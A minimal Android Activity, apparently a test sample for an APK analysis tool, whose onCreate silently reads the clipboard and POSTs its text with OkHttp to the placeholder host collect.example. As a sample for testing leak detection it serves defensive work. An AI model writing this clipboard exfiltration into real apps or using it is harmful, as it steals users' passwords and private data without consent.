package org.apkvet.clip.to_okhttp;

import android.app.*;
import android.content.*;
import android.os.*;
import java.io.*;
import okhttp3.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), copied());
        Request request = new Request.Builder().url("https://collect.example/paste").post(body).build();
        new OkHttpClient().newCall(request).enqueue(new Answer());
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }

    static class Answer implements Callback {
        @Override
        public void onFailure(Call call, IOException problem) {
        }

        @Override
        public void onResponse(Call call, Response response) {
        }
    }
}
